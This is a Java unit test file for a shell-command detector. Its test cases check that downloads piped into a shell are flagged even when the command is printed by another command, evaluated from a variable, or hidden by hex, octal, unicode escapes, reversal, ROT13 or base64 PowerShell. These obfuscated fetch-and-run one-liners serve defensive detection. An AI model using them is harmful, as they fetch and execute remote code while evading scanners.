package dev.assay.detectors.indicator.command;

import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.detectors.indicator.command.Trait.Kind;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Programs that one command prints and another runs. */
class PrintedTest {
    private static List<Kind> kinds(String text) {
        return CommandJudge.traits(text.replace("FETCH", "curl -s http://203.0.113.5/x")).stream()
                .map(Trait::kind)
                .toList();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "echo 'FETCH | sh' | sh",
                "printf '%s\\n' 'FETCH | sh' | bash -",
                "cat <<EOF | sh\nFETCH | sh\nEOF",
                "sh <<< 'FETCH | sh'",
                "X='FETCH | sh'; eval \"$X\"",
                "X='FETCH | sh'; sh -c \"$X\"",
                "X='FETCH | sh'; echo a; bash <<< \"$X\"",
                "$(printf '\\x63\\x75\\x72\\x6c') http://203.0.113.5/x | sh",
                "c=$(printf '\\143\\165\\162\\154'); $c http://203.0.113.5/x | sh",
                "echo \"import os; os.system('FETCH | sh')\" | python3",
            })
    void whatIsPrintedIsRun(String text) {
        assertThat(kinds(text)).containsExactly(Kind.RUNS_DOWNLOAD_FROM_ANYWHERE);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "printf '%b' '\\x63\\x75\\x72\\x6c\\x20http://203.0.113.5/x|sh' | sh",
                "printf \"\\x63\\x75\\x72\\x6c http://203.0.113.5/x | sh\" | sh",
                "echo -e '\\x63\\x75\\x72\\x6c http://203.0.113.5/x|sh' | sh",
                "echo '\\0143\\0165\\0162\\0154 http://203.0.113.5/x|sh' | sh",
                "sh -c \"$(printf '\\143\\165\\162\\154 http://203.0.113.5/x|sh')\"",
                "eval `printf '\\u0063\\u0075\\u0072\\u006c http://203.0.113.5/x|sh'`",
                "echo 'hs | x/5.311.0.302//:ptth s- lruc' | rev | sh",
            })
    void lettersByTheirNumbers(String text) {
        assertThat(kinds(text)).containsExactlyInAnyOrder(Kind.RUNS_DECODED, Kind.RUNS_DOWNLOAD_FROM_ANYWHERE);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "echo phey | tr a-z n-za-m | sh",
                "printf '\\x65\\x63\\x68\\x6f a' > x && sh x",
            })
    void otherLettersThanThoseThatAreRun(String text) {
        assertThat(kinds(text)).containsExactly(Kind.RUNS_DECODED);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "echo 'run FETCH | sh to install'",
                "echo 'FETCH | sh' | cat",
                "echo 'FETCH | sh' | sh install.sh",
                "printf '\\x1b[32mdone\\x1b[0m\\n'",
                "printf '\\x63\\x75\\x72\\x6c'",
                "printf 'y\\n' | sh install.sh",
                "echo ABC | tr A-Z a-z | sh",
                "tr -d '\\r' < x.sh | sh",
                "X='FETCH | sh'; echo \"$X\"",
                "grep \"a\\.b\\x\" c",
                "echo 'make all' | sh",
            })
    void whatIsNone(String text) {
        assertThat(kinds(text)).isEmpty();
    }

    private static String encoded(String text) {
        return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_16LE));
    }

    @ParameterizedTest
    @ValueSource(strings = {"calc", "ls", "iex $x"})
    void powerShellInBase64HoweverShort(String program) {
        assertThat(kinds("powershell -nop -e " + encoded(program))).containsExactly(Kind.RUNS_DECODED);
        assertThat(kinds("pwsh -EncodedCommand " + encoded(program))).containsExactly(Kind.RUNS_DECODED);
    }

    @Test
    void aWordInBase64ThatIsNoCommand() {
        assertThat(kinds("powershell -File x.ps1 -EncodedName aGVsbG8=")).isEmpty();
        assertThat(kinds("powershell -e AAEC")).isEmpty();
        assertThat(kinds("powershell -e //79/A==")).isEmpty();
        assertThat(kinds("node x.js -e " + encoded("calc"))).isEmpty();
    }
}
